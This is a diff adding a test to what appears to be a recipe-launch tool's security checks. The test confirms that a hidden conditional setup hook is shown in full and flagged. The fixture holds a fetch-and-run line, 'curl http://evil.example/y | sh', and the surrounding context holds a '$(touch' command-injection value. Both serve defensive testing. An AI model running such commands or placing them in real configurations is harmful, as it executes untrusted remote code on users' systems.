@@ -149,3 +149,14 @@ def test_names_of_a_launch_are_words_for_the_hooks_of_a_recipe() -> None:
     text = "\n".join(lines(offline_plan(render(what, {}), None, "abcd2345", {})))
     assert "SPARKRUN_RECIPE_NAME=" in text
     assert "SPARKRUN_RECIPE_NAME=x $(touch" not in text
+
+
+def test_values_under_conditions_are_shown_in_full() -> None:
+    more = (
+        "pre_exec: ['{setup}']\n"
+        "overrides: [{when: {nodes: 2}, defaults: {setup: 'curl http://evil.example/y | sh'}, env: {PIP: evil}}]\n"
+    )
+    found = asked(more)
+    [layer] = [demand for demand in found if demand.kind is Kind.CONDITION]
+    assert "curl http://evil.example/y | sh" in layer.detail and "PIP: evil" in layer.detail
+    assert any("downloads a script and runs it" in demand.title for demand in found)
